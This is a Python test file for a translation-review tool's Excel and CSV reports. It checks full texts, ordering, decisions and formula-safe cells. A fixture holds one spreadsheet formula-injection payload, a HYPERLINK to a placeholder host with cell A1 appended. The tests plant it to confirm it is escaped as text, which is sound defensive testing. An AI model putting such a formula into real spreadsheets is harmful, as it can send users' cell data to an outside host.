"""The Excel QA report: one row per finding with the full texts, a summary sheet, filters, a frozen header,
formula-safe cells, the reviewer's decisions; and the CSV worklist's full English and Korean."""
from __future__ import annotations

import csv
from dataclasses import replace

import pytest

from _report_sample import sample_pairs
from corpus.records import Span
from review.decisions import DecisionStore, DECISIONS_FILE, finding_fingerprints, load_decisions
from review.records import Category, Finding, Severity
from review.report.excel import FINDING_COLUMNS, write_xlsx
from review.report.worklist import write_worklist

openpyxl = pytest.importorskip("openpyxl")


@pytest.fixture(scope="module")
def pairs():
    ps = sample_pairs()
    # a formula in the Korean, and an informational note on a pair without English
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"클릭")'
    ps[30] = replace(ps[30], tgt=evil, findings=(Finding("untranslated", Category.ACCURACY, Severity.MAJOR,
                                                          "-1 English left", (Span.of(evil, 0, 10),),
                                                          suggestion="+82 번호"),), penalty=5.0, priority=5.0)
    ps[31] = replace(ps[31], findings=(Finding("no-source", Category.ACCURACY, Severity.MINOR, "no English source",
                                               (Span.of(ps[31].tgt, 0, len(ps[31].tgt)),)),))
    return ps


def test_one_row_per_finding_with_full_texts_and_decisions(tmp_path, pairs):
    store = DecisionStore(tmp_path / DECISIONS_FILE)
    rep = next(p for p in pairs if any(f.check == "repetition" and f.severity is Severity.CRITICAL
                                       for f in p.findings))
    k = next(i for i, f in enumerate(rep.findings) if f.check == "repetition")
    store.set_finding(rep, k, verdict="false_alarm", note="a quoted refrain")
    path = write_xlsx(tmp_path / "review.xlsx", pairs, load_decisions(tmp_path), {"mtreview": "test"})
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Findings", "Summary"]
    ws = wb["Findings"]
    header = [c.value for c in ws[1]]
    assert header == [name for name, _ in FINDING_COLUMNS]
    rows = [dict(zip(header, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
    assert len(rows) == sum(len(p.findings) for p in pairs)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:P{len(rows) + 1}"
    # full English and Korean, never cut
    by_pair = {p.id: p for p in pairs}
    for r in rows:
        p = by_pair[r["pair"]]
        assert (r["korean"] or "").lstrip("'") == p.tgt and (r["english"] or "") == p.src
    assert max(len(r["korean"] or "") for r in rows) > 200
    # informational notes come last and say so
    assert rows[-1]["check"] == "no-source" and rows[-1]["informational"] == "yes"
    assert all(not r["informational"] for r in rows[:-1])
    # errors by priority
    prios = [r["priority"] for r in rows[:-1]]
    assert prios == sorted(prios, reverse=True)
    # the decision and the note are written in
    decided = [r for r in rows if r["pair"] == rep.id and r["check"] == "repetition"]
    assert decided[0]["decision"] == "false alarm" and decided[0]["note"] == "a quoted refrain"
    # formula-safe: text that starts with = + - @ is stored as text with a leading apostrophe
    evil = next(r for r in rows if r["pair"] == pairs[30].id)
    assert evil["korean"].startswith("'=HYPERLINK") and evil["message"] == "'-1 English left"
    assert evil["suggestion"] == "'+82 번호"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # Korean readable: Korean cells name a Korean font and wrap
    cell = ws.cell(row=2, column=header.index("korean") + 1)
    assert cell.font.name == "Malgun Gothic" and cell.alignment.wrap_text
    summary = {r[0].value: r[1].value for r in wb["Summary"].iter_rows() if r[0].value}
    assert summary["findings (errors)"] == len(rows) - 1 and summary["informational notes"] == 1
    assert summary["false alarm"] == 1


def test_csv_worklist_has_the_full_english_and_korean_and_its_output(tmp_path, pairs):
    files = write_worklist(tmp_path, pairs)
    with open(files["worklist_csv"], encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_pair = {p.id: p for p in pairs}
    long = [r for r in rows if len(by_pair[r["id"]].tgt) > 100]
    assert long and all(r["korean"] == by_pair[r["id"]].tgt for r in long)
    assert all(r["english"] == by_pair[r["id"]].src for r in rows)
    assert all(r["output"] == str(tmp_path) for r in rows)
    evil = next(r for r in rows if r["id"] == pairs[30].id)
    assert evil["korean"].startswith("'=") and evil["snippet"].startswith("'=")


def test_review_xlsx_from_the_cli(tmp_path, capsys):
    from review.cli import main

    ko = tmp_path / "d.ko.txt"
    ko.write_text("마이스키( )는 1884년에 태어났다.\n\n그는 런던에 갔다.\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["review", str(ko), "--out", str(out), "--xlsx", "--no-models", "--no-names", "--quiet"]) == 0
    wb = openpyxl.load_workbook(out / "review.xlsx")
    from review.report.worklist import load_output
    n = sum(len(p.findings) for p in load_output(out).pairs)
    assert wb["Findings"].max_row == n + 1 and n >= 1
